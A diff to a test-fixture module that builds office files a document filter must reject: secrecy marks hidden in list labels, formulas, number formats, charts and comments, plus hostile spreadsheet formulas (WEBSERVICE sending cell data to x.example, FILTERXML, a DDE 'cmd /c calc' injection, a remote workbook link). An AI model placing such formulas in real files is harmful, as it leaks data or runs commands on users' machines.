@@ -1,6 +1,7 @@
 """Papers that must not enter, each as (name, bytes) with the code that refuses it. All are made here."""
 
 import io
+import re
 import struct
 import zipfile
 import zlib
@@ -13,6 +14,7 @@ import docx.enum.style
 import pikepdf
 from PIL import Image, PngImagePlugin
 
+from tests.office_papers import sheet, slides
 from tests.papers import many_pages_pdf, party_document_docx, party_document_pdf, state_letter_docx
 
 MACRO_TYPE = "application/vnd.ms-office.vbaProject"
@@ -302,6 +304,39 @@ def _split_mark() -> bytes:
     return edited_docx(_mark_split_over_runs)
 
 
+def formula_xlsx(formula: str, value: str = "1") -> bytes:
+    """A workbook with a formula and the result that was kept of it."""
+    cell = f'<c r="A9" t="str"><f>{formula}</f><v>{value}</v></c>'
+    return replaced(sheet("a"), "xl/worksheets/sheet1.xml", "</sheetData>", f'<row r="9">{cell}</row></sheetData>')
+
+
+def formatted_xlsx(code: str) -> bytes:
+    """A workbook with a form of numbers of its own."""
+    form = f'<numFmts count="1"><numFmt numFmtId="170" formatCode="{code}"/></numFmts>'
+    part = "xl/styles.xml"
+    plain = re.sub(rb"<numFmts[^>]*/>", b"", member(sheet("a"), part))
+    return with_members(sheet("a"), {part: plain.replace(b"<fonts", form.encode() + b"<fonts", 1)})
+
+
+def listed_docx(label: str) -> bytes:
+    """A Word file with a list whose label is words."""
+
+    def add(document: docx.document.Document) -> None:
+        document.add_paragraph("Nội dung.", style="List Bullet")
+
+    data = edited_docx(add)
+    part = "word/numbering.xml"
+    return with_members(
+        data, {part: re.sub(rb'(<w:lvlText w:val=)"[^"]*"', rb'\1"%s"' % label.encode(), member(data, part))}
+    )
+
+
+def with_part(data: bytes, name: str, content: str) -> bytes:
+    """An office file with one more part, given by what stands inside its root."""
+    spaces = 'xmlns:a="urn:a" xmlns:c="urn:c" xmlns:p="urn:p"'
+    return with_members(data, {name: f"<c:root {spaces}>{content}</c:root>".encode()})
+
+
 def boxed_docx(text: str) -> bytes:
     """A Word file with a watermark drawn by WordArt, whose words are an attribute."""
     drawn = (
@@ -434,6 +469,33 @@ BAD = [
     Bad("đầu-trang-khác-tên.docx", lambda: moved_header("word/x.xml"), "secrecy_mark"),
     Bad("kiểu-chữ-hoa.docx", lambda: edited_docx(_mark_in_capitals), "secrecy_mark"),
     Bad("tách-chữ.docx", lambda: edited_docx(_mark_split_over_runs), "secrecy_mark"),
+    Bad("nhãn-danh-sách.docx", lambda: listed_docx("TUYỆT MẬT"), "secrecy_mark"),
+    Bad("kết-quả.xlsx", lambda: formula_xlsx('"TUYỆT "&amp;"MẬT"', "TUYỆT MẬT"), "secrecy_mark"),
+    Bad("dạng-số.xlsx", lambda: formatted_xlsx("&quot;TUYỆT MẬT&quot;;General"), "secrecy_mark"),
+    Bad(
+        "biểu-đồ.docx",
+        lambda: with_part(state_letter_docx(), "word/charts/chart1.xml", "<c:pt><c:v>TỐI MẬT</c:v></c:pt>"),
+        "secrecy_mark",
+    ),
+    Bad(
+        "tên-biểu-đồ.docx",
+        lambda: with_part(state_letter_docx(), "word/charts/chart1.xml", "<a:p><a:r><a:t>MẬT</a:t></a:r></a:p>"),
+        "secrecy_mark",
+    ),
+    Bad(
+        "bình-luận.pptx",
+        lambda: with_part(slides("a"), "ppt/comments/comment1.xml", "<p:cm><p:text>TUYỆT MẬT</p:text></p:cm>"),
+        "secrecy_mark",
+    ),
+    Bad(
+        "bình-luận.xlsx",
+        lambda: with_part(sheet("a"), "xl/comments1.xml", "<text><r><t>TUYỆT</t></r><r><t> MẬT</t></r></text>"),
+        "secrecy_mark",
+    ),
+    Bad("hỏi-mạng.xlsx", lambda: formula_xlsx('_xlfn.WEBSERVICE("http://x.example/?"&amp;A2)'), "external_link"),
+    Bad("đọc-xml.xlsx", lambda: formula_xlsx('FILTERXML("http://x.example/","//a")'), "external_link"),
+    Bad("hỏi-chương-trình.xlsx", lambda: formula_xlsx("cmd|'/c calc'!A0"), "external_link"),
+    Bad("bảng-ở-xa.xlsx", lambda: formula_xlsx("'https://x.example/[a.xlsx]S'!A1"), "external_link"),
     Bad("thuộc-tính.docx", lambda: edited_docx(_mark_title), "secrecy_mark"),
     Bad("chữ-chìm.docx", lambda: boxed_docx("MẬT"), "secrecy_mark"),
     Bad("thuộc-tính.pdf", lambda: titled_pdf("TUYỆT MẬT"), "secrecy_mark"),
